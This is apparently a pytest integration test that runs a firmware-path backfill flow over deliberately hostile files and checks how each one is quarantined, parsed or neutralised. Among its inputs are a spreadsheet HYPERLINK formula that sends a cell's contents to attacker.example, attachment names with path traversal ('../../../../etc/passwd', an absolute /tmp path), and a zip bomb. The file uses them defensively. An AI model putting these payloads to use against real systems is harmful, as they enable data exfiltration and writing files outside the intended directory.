"""The backfill on an inbox of hostile files, end to end: what lands in review/ for each, and that
nothing is written anywhere but the workdir (docs/reliability.md).

One run of the flow over generated inputs: zip bomb, macro-enabled workbook, cp1252 and UTF-16
CSVs, formula cells, a million-row CSV, merged headers; emails with attachments named like paths,
a deep forward, a multipart with no boundary, MIME parts nested too deep, a large base64
attachment, raw non-ASCII headers.
"""

from __future__ import annotations

import csv
import hashlib
import os
import uuid
from pathlib import Path

import openpyxl
import pytest

from firpath.demo import write_demo
from tests.hostile_builders import (
    MAP_HEADER,
    MAP_ROW,
    STATEMENT,
    email,
    forge_declared_size,
    forwarded,
    macro_enabled,
    map_csv,
    nested_multipart,
    raw_email,
    with_attachment_named,
    xlsx,
)

pytestmark = pytest.mark.integration

ESCAPE = f"/tmp/firpath-hostile-{uuid.uuid4().hex}.csv"  # an absolute name nothing may ever write
FORMULA = '=HYPERLINK("http://attacker.example/?q="&A2,"01020000")'

INBOX = {
    "MAP/paths.xlsx": forge_declared_size(xlsx({"Paths": [MAP_HEADER, MAP_ROW]}), "xl/worksheets/sheet1.xml", 4_000_000_000),
    "MAP/macros.xlsm": macro_enabled(xlsx({"Paths": [MAP_HEADER, ("10A7", "0101", "0002", "01020000", "01020005")]})),
    "MAP/windows.csv": map_csv([("Acme Zähler – paths",), MAP_HEADER, ("10A7", "0101", "0002", "01020005", "01020007")], delimiter=";", encoding="cp1252"),
    "MAP/unicode export": map_csv([MAP_HEADER, MAP_ROW], delimiter="\t", encoding="utf-16"),
    "MAP/formulas.csv": map_csv([MAP_HEADER]) + b'10A7,0101,0002,"' + FORMULA.replace('"', '""').encode() + b'",01020005\r\n',
    "MAP/everything.csv": map_csv([MAP_HEADER]) + map_csv([MAP_ROW]) * 1_000_000,
    "MAP/merged.xlsx": xlsx(
        {"Paths": [["Device", "", "", "Firmware", ""], ["Mfr", "Model ID", "HW Ver", "Current", "Target"], ("10A7", "0101", "0002", "01020000", "01020005")]},
        merges={"Paths": ["A1:C1", "D1:E1"]},
    ),
    "mail/traversal.eml": with_attachment_named(b"../../../../etc/passwd", map_csv([MAP_HEADER, MAP_ROW])),
    "mail/absolute.eml": with_attachment_named(ESCAPE.encode(), map_csv([MAP_HEADER, MAP_ROW], delimiter=";")),
    "mail/forwarded.eml": forwarded(12),
    "mail/no-boundary.eml": raw_email(
        [(b"From", b"jo@acme.example"), (b"Subject", b"AM-E200"), (b"MIME-Version", b"1.0"), (b"Content-Type", b"multipart/mixed")],
        b"--p\r\nContent-Type: text/plain\r\n\r\n" + STATEMENT.encode() + b"\r\n--p--\r\n",
    ),
    "mail/nested.eml": nested_multipart(40),
    "mail/large.eml": email(attachments=[("dump.bin", os.urandom(6 << 20), "application/octet-stream")]),
    "mail/latin1.eml": raw_email([(b"From", "Jürgen <jg@acme.example>".encode("cp1252")), (b"Subject", "Zähler".encode("cp1252"))], STATEMENT.encode()),
}  # fmt: skip

QUARANTINED = {
    "MAP/paths.xlsx": "zip bomb refused: its parts declare 3,815 MB when unpacked",
    "MAP/everything.csv": "more than 100,000 rows (row 100,001 holds data)",
    # levels 11 to 4 are read (8 deep), level 3 is not: the chain ends there, visibly
    " > ".join(["mail/forwarded.eml", *(f"Fwd level {n}.eml" for n in range(11, 2, -1))]): "attachment nested more than 8 emails deep (FIRPATH_MAX_ATTACHMENT_DEPTH)",
    "mail/nested.eml": "its MIME parts are nested more than 32 deep",
    "mail/large.eml > dump.bin": "unsupported file type",
}


def _tree(root: Path, skip: Path) -> dict[str, str]:
    return {
        str(path.relative_to(root)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(root.rglob("*"))
        if path.is_file() and skip not in path.parents
    }


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture(scope="module")
def hostile_run(prefect_harness, tmp_path_factory):
    from flows.backfill import backfill_flow
    from staging.settings import store_url

    root = tmp_path_factory.mktemp("hostile")
    inputs = write_demo(root / "registers")
    inbox = root / "inbox"
    for name, data in INBOX.items():
        (inbox / name).parent.mkdir(parents=True, exist_ok=True)
        (inbox / name).write_bytes(data)
    workdir = root / "wd"
    before = _tree(root, workdir)
    cwd = Path.cwd()
    os.chdir(root)  # a relative path written by mistake would land here
    try:
        result = backfill_flow(inbox, inputs.cpl, inputs.fir, workdir, store_url(workdir), 1)
    finally:
        os.chdir(cwd)
    return root, workdir, before, result


def test_nothing_is_written_outside_the_workdir(hostile_run):
    root, workdir, before, _ = hostile_run
    assert _tree(root, workdir) == before
    assert not Path(ESCAPE).exists()
    assert not (root / "etc").exists() and not (root.parent / "etc").exists()


def test_each_unreadable_input_is_quarantined_with_its_reason(hostile_run):
    _, _, _, result = hostile_run
    reasons = {row["file"]: row["reason"] for row in _rows(result.files.quarantine_csv)}
    assert set(reasons) == set(QUARANTINED)
    for file, reason in QUARANTINED.items():
        assert reason in reasons[file], file


def test_readable_hostile_inputs_give_their_claims(hostile_run):
    _, _, _, result = hostile_run
    files = {row["file"] for row in _rows(result.files.claims_csv)}
    assert files == {
        "MAP/macros.xlsm", "MAP/windows.csv", "MAP/unicode export", "MAP/formulas.csv", "MAP/merged.xlsx",
        "mail/traversal.eml", "mail/traversal.eml > passwd", "mail/absolute.eml", f"mail/absolute.eml > {Path(ESCAPE).name}",
        "mail/no-boundary.eml", "mail/large.eml", "mail/latin1.eml",
    }  # fmt: skip
    proposed = {row["cpl_entry_id"]: row for row in _rows(result.files.proposed_csv)}
    assert proposed["1104"]["proposed_upgrade_path"] == "1103"  # the .xlsm and the merged-header workbook
    assert "MAP/macros.xlsm" in proposed["1104"]["sources"] and "MAP/merged.xlsx" in proposed["1104"]["sources"]
    assert "Current Firmware: 01020000" in proposed["1104"]["evidence"]
    assert proposed["1106"]["proposed_upgrade_path"] == "1104"  # UTF-16 export, the emails' attachments and bodies
    assert "MAP/unicode export" in proposed["1106"]["sources"] and "mail/traversal.eml > passwd" in proposed["1106"]["sources"]
    assert proposed["1105"]["proposed_upgrade_path"] == "1104"  # the cp1252 CSV


def test_a_formula_cell_reaches_every_review_file_as_text(hostile_run):
    _, workdir, _, result = hostile_run
    (row,) = [r for r in _rows(result.files.unmapped_csv) if r["file"] == "MAP/formulas.csv"]
    assert row["base_firmware"] == "'" + FORMULA
    assert "never evaluated" in row["reason"]
    for path in (workdir / "review").glob("*.csv"):
        for record in _rows(path):
            assert not [v for v in record.values() if v[:1] in ("=", "+", "-", "@")], path.name
    book = openpyxl.load_workbook(result.files.proposed_xlsx)
    assert all(cell.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)


def test_how_a_document_was_read_is_listed_in_notices_csv(hostile_run):
    _, _, _, result = hostile_run
    notices = {(row["file"], row["notice"]) for row in _rows(result.files.notices_csv)}
    by_file = {file for file, _ in notices}
    assert {"MAP/macros.xlsm", "mail/no-boundary.eml"} <= by_file
    assert any(file == "MAP/macros.xlsm" and "macro" in notice for file, notice in notices)
    assert any(file == "mail/no-boundary.eml" and "boundary" in notice for file, notice in notices)


def test_a_cached_rerun_lists_the_same_notices(hostile_run, tmp_path):
    """The notices are kept with the extraction: a run that reads nothing lists them all the same."""
    from flows.backfill import backfill_flow
    from staging.settings import store_url

    root, workdir, _, first = hostile_run
    again = backfill_flow(root / "inbox", root / "registers" / "demo" / "cpl_export.xlsx",
                          root / "registers" / "demo" / "fir_export.csv", workdir, store_url(workdir), 1)  # fmt: skip
    assert again.summary.documents_read == 0
    assert _rows(again.files.notices_csv) == _rows(first.files.notices_csv) != []
